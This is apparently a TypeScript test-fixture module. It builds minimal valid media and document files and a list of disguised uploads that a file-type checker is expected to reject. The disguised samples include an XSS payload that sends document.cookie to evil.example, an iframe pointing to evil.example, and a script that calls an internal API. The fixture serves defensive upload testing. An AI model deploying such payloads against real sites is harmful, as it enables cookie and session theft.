// Small real files of every type spec §5 allows, built from the formats' own headers (no encoder
// needed on the machine), so uploads are checked against what a browser would actually send.
import { crc32, gzipSync } from "node:zlib";
import sharp from "sharp";

export type MediaSample = {
  /** The file's name as a person would upload it. */
  name: string;
  bytes: Uint8Array;
  /** The type the library stores it as. */
  mime: string;
  kind: "image" | "video" | "audio" | "document";
};

const ascii = (s: string) => [...Buffer.from(s, "latin1")];
const u16le = (n: number) => [n & 0xff, (n >> 8) & 0xff];
const u32le = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, (n >>> 24) & 0xff];
const u32be = (n: number) => [(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];

// ---- Ogg (RFC 3533): one page per packet, with the page CRC Ogg readers check ----

const OGG_CRC = (() => {
  const table = new Uint32Array(256);
  for (let i = 0; i < 256; i++) {
    let r = i << 24;
    for (let j = 0; j < 8; j++) r = r & 0x80000000 ? (r << 1) ^ 0x04c11db7 : r << 1;
    table[i] = r >>> 0;
  }
  return table;
})();

function oggCrc(bytes: number[]): number {
  let crc = 0;
  for (const b of bytes) crc = ((crc << 8) ^ OGG_CRC[((crc >>> 24) & 0xff) ^ b]) >>> 0;
  return crc;
}

function oggPage(packet: number[], opts: { first: boolean; sequence: number; serial: number }): number[] {
  const segments: number[] = [];
  let left = packet.length;
  while (left >= 255) {
    segments.push(255);
    left -= 255;
  }
  segments.push(left);
  const page = [
    ...ascii("OggS"),
    0,
    opts.first ? 0x02 : 0x00,
    ...new Array(8).fill(0),
    ...u32le(opts.serial),
    ...u32le(opts.sequence),
    0,
    0,
    0,
    0,
    segments.length,
    ...segments,
    ...packet,
  ];
  const crc = u32le(oggCrc(page));
  page.splice(22, 4, ...crc);
  return page;
}

const ogg = (...packets: number[][]) =>
  new Uint8Array(packets.flatMap((p, i) => oggPage(p, { first: i === 0, sequence: i, serial: 0x5eed })));

const theoraHeader = [
  0x80,
  ...ascii("theora"),
  3,
  2,
  1,
  ...[0, 1],
  ...[0, 1],
  ...[0, 0, 16],
  ...[0, 0, 16],
  0,
  0,
  ...u32be(25),
  ...u32be(1),
  ...[0, 0, 1],
  ...[0, 0, 1],
  0,
  ...[0, 0, 0],
  ...[0x00, 0xc0],
];
const vorbisHeader = [
  0x01,
  ...ascii("vorbis"),
  ...u32le(0),
  2,
  ...u32le(44100),
  ...u32le(0),
  ...u32le(128000),
  ...u32le(0),
  0xb8,
  0x01,
];
const opusHeader = [...ascii("OpusHead"), 1, 2, ...u16le(312), ...u32le(48000), ...u16le(0), 0];
const opusTags = [...ascii("OpusTags"), ...u32le(6), ...ascii("atrium"), ...u32le(0)];

// ---- MPEG ----

const MPEG_SEQUENCE = [0x00, 0x00, 0x01, 0xb3, 0x01, 0x00, 0x10, 0x13, 0xff, 0xff, 0xe0, 0x18];
const MPEG_END = [0x00, 0x00, 0x01, 0xb9];
/** MPEG-1 system stream: a pack header ('0010' marker), then a video sequence header. */
const mpeg1 = new Uint8Array([
  ...[0x00, 0x00, 0x01, 0xba, 0x21, 0x00, 0x01, 0x00, 0x01, 0x80, 0x00, 0x01],
  ...MPEG_SEQUENCE,
  ...MPEG_END,
]);
/** MPEG-2 program stream (DVD .mpg/.vob): a pack header ('01' marker) with no stuffing. */
const mpeg2 = new Uint8Array([
  ...[0x00, 0x00, 0x01, 0xba, 0x44, 0x00, 0x04, 0x00, 0x04, 0x01, 0x01, 0x89, 0xc3, 0xf8],
  ...MPEG_SEQUENCE,
  ...MPEG_END,
]);
/** Two MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz: 417 bytes each). */
const mp3 = new Uint8Array(
  [0, 1].flatMap(() => {
    const frame = new Array(417).fill(0);
    frame.splice(0, 4, 0xff, 0xfb, 0x90, 0x64);
    return frame;
  }),
);
/** Two ADTS AAC-LC frames of 16 bytes each (44.1 kHz, stereo). */
const aac = new Uint8Array([0, 1].flatMap(() => [0xff, 0xf1, 0x50, 0x80, 0x02, 0x1f, 0xfc, ...new Array(9).fill(0)]));

// ---- ISO base media (MP4) and Matroska (WebM) ----

const box = (type: string, payload: number[]) => [...u32be(8 + payload.length), ...ascii(type), ...payload];
const mp4 = new Uint8Array([
  ...box("ftyp", [...ascii("isom"), ...u32be(0x200), ...ascii("isomiso2avc1mp41")]),
  ...box("free", []),
  ...box("mdat", []),
]);

const ebml = (id: number[], payload: number[]) => [...id, 0x80 | payload.length, ...payload];
const webm = new Uint8Array([
  ...ebml(
    [0x1a, 0x45, 0xdf, 0xa3],
    [
      ...ebml([0x42, 0x86], [1]),
      ...ebml([0x42, 0xf7], [1]),
      ...ebml([0x42, 0xf2], [4]),
      ...ebml([0x42, 0xf3], [8]),
      ...ebml([0x42, 0x82], ascii("webm")),
      ...ebml([0x42, 0x87], [4]),
      ...ebml([0x42, 0x85], [2]),
    ],
  ),
  ...ebml([0x18, 0x53, 0x80, 0x67], []),
]);

// ---- Archives and documents ----

/** A ZIP of stored (uncompressed) entries, with its central directory. */
export function zip(entries: Record<string, string>): Uint8Array {
  const local: number[] = [];
  const central: number[] = [];
  for (const [name, content] of Object.entries(entries)) {
    const data = [...Buffer.from(content, "utf8")];
    const nameBytes = ascii(name);
    const crc = crc32(Buffer.from(data));
    const offset = local.length;
    const common = [...u16le(0), ...u16le(0), ...u16le(0), ...u16le(0x21)];
    const sizes = [...u32le(crc), ...u32le(data.length), ...u32le(data.length), ...u16le(nameBytes.length)];
    local.push(...u32le(0x04034b50), ...u16le(20), ...common, ...sizes, ...u16le(0), ...nameBytes, ...data);
    central.push(
      ...u32le(0x02014b50),
      ...u16le(20),
      ...u16le(20),
      ...common,
      ...sizes,
      ...u16le(0),
      ...u16le(0),
      ...u16le(0),
      ...u16le(0),
      ...u32le(0),
      ...u32le(offset),
      ...nameBytes,
    );
  }
  const count = Object.keys(entries).length;
  const end = [
    ...u32le(0x06054b50),
    ...u16le(0),
    ...u16le(0),
    ...u16le(count),
    ...u16le(count),
    ...u32le(central.length),
    ...u32le(local.length),
    ...u16le(0),
  ];
  return new Uint8Array([...local, ...central, ...end]);
}

const officeXml = (main: string, part: string) =>
  zip({
    "[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${main}"/></Types>`,
    [part]: `<?xml version="1.0" encoding="UTF-8"?><root/>`,
  });

/** The compound file header old Office programs write (.doc, .xls, .ppt): 512 bytes, version 3. */
function cfb(): Uint8Array {
  const bytes = new Uint8Array(1536);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  bytes.set([...u16le(0x3e), ...u16le(3), ...u16le(0xfffe), ...u16le(9), ...u16le(6)], 0x18);
  bytes.set(u32le(1), 0x2c);
  bytes.set(u32le(0xfffffffe), 0x3c);
  bytes.fill(0xff, 0x4c, 0x200);
  return bytes;
}

/** A 2×2 24-bit BMP. */
function bmp(): Uint8Array {
  const rows = 2;
  const rowBytes = 8;
  const pixels = rows * rowBytes;
  return new Uint8Array([
    ...ascii("BM"),
    ...u32le(54 + pixels),
    ...u32le(0),
    ...u32le(54),
    ...u32le(40),
    ...u32le(2),
    ...u32le(2),
    ...u16le(1),
    ...u16le(24),
    ...u32le(0),
    ...u32le(pixels),
    ...u32le(2835),
    ...u32le(2835),
    ...u32le(0),
    ...u32le(0),
    ...new Array(pixels).fill(0x80),
  ]);
}

const text = (s: string) => new Uint8Array(Buffer.from(s, "utf8"));
const raster = (format: "png" | "jpeg" | "gif" | "avif") =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 200, g: 80, b: 40 } } })
    .toFormat(format)
    .toBuffer()
    .then((b) => new Uint8Array(b));

const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation";

/** One sample of every §5 type, and of the family members detectors name on their own. */
export async function mediaSamples(): Promise<MediaSample[]> {
  return [
    // Video: ogg, mpeg (MPEG-1 and MPEG-2 systems), mp4, webm
    { name: "clip.ogv", bytes: ogg(theoraHeader), mime: "video/ogg", kind: "video" },
    { name: "lecture.mpg", bytes: mpeg1, mime: "video/mpeg", kind: "video" },
    { name: "dvd-lecture.mpg", bytes: mpeg2, mime: "video/mpeg", kind: "video" },
    { name: "clip.mp4", bytes: mp4, mime: "video/mp4", kind: "video" },
    { name: "clip.webm", bytes: webm, mime: "video/webm", kind: "video" },
    // Audio: ogg (Vorbis and Opus), mpeg, aac, webm
    { name: "podcast.ogg", bytes: ogg(vorbisHeader), mime: "audio/ogg", kind: "audio" },
    { name: "voice-note.opus", bytes: ogg(opusHeader, opusTags), mime: "audio/ogg", kind: "audio" },
    { name: "song.mp3", bytes: mp3, mime: "audio/mpeg", kind: "audio" },
    { name: "song.aac", bytes: aac, mime: "audio/aac", kind: "audio" },
    { name: "voice.weba", bytes: webm, mime: "audio/webm", kind: "audio" },
    // Documents
    {
      name: "handout.pdf",
      bytes: text("%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"),
      mime: "application/pdf",
      kind: "document",
    },
    { name: "data.json", bytes: text('{"lessons":[1,2,3]}'), mime: "application/json", kind: "document" },
    { name: "backup.gz", bytes: new Uint8Array(gzipSync("lesson notes")), mime: "application/gzip", kind: "document" },
    { name: "letter.doc", bytes: cfb(), mime: "application/msword", kind: "document" },
    { name: "letter.docx", bytes: officeXml(`${DOCX}.main+xml`, "word/document.xml"), mime: DOCX, kind: "document" },
    { name: "grades.csv", bytes: text("name,grade\nAda,90\nLin,85\n"), mime: "text/csv", kind: "document" },
    { name: "notes.txt", bytes: text("Bring a notebook.\n"), mime: "text/plain", kind: "document" },
    { name: "slides.ppt", bytes: cfb(), mime: "application/vnd.ms-powerpoint", kind: "document" },
    { name: "slides.pptx", bytes: officeXml(`${PPTX}.main+xml`, "ppt/presentation.xml"), mime: PPTX, kind: "document" },
    { name: "grades.xls", bytes: cfb(), mime: "application/vnd.ms-excel", kind: "document" },
    { name: "grades.xlsx", bytes: officeXml(`${XLSX}.main+xml`, "xl/workbook.xml"), mime: XLSX, kind: "document" },
    {
      name: "feed.xml",
      bytes: text('<?xml version="1.0"?><feed><item/></feed>'),
      mime: "application/xml",
      kind: "document",
    },
    { name: "course.zip", bytes: zip({ "readme.txt": "Welcome" }), mime: "application/zip", kind: "document" },
    // Images
    { name: "photo.jpg", bytes: await raster("jpeg"), mime: "image/jpeg", kind: "image" },
    { name: "photo.jpeg", bytes: await raster("jpeg"), mime: "image/jpeg", kind: "image" },
    { name: "logo.png", bytes: await raster("png"), mime: "image/png", kind: "image" },
    { name: "anim.gif", bytes: await raster("gif"), mime: "image/gif", kind: "image" },
    { name: "scan.bmp", bytes: bmp(), mime: "image/bmp", kind: "image" },
    { name: "photo.avif", bytes: await raster("avif"), mime: "image/avif", kind: "image" },
    {
      name: "icon.svg",
      bytes: text('<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>'),
      mime: "image/svg+xml",
      kind: "image",
    },
  ];
}

/** Files whose name promises something their content is not: each must be refused. */
export function disguisedSamples(): { name: string; bytes: Uint8Array; detected: string; reason: string }[] {
  return [
    {
      name: "cat.png",
      bytes: text("<!DOCTYPE html><html><body><script>fetch('/api/v1/me')</script></body></html>"),
      detected: "text/html",
      reason: "type",
    },
    {
      name: "cat.png",
      bytes: text("<script>document.location='https://evil.example/'+document.cookie</script>"),
      detected: "text/html",
      reason: "type",
    },
    {
      name: "cat.png",
      bytes: text("fetch('/api/v1/me').then(r => r.json())\n"),
      detected: "text/plain",
      reason: "disguised",
    },
    {
      name: "lesson.xml",
      bytes: text('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
      detected: "text/html",
      reason: "type",
    },
    {
      name: "intro.mp4",
      bytes: text("<!-- hi --><iframe src='https://evil.example'></iframe>"),
      detected: "text/html",
      reason: "type",
    },
  ];
}
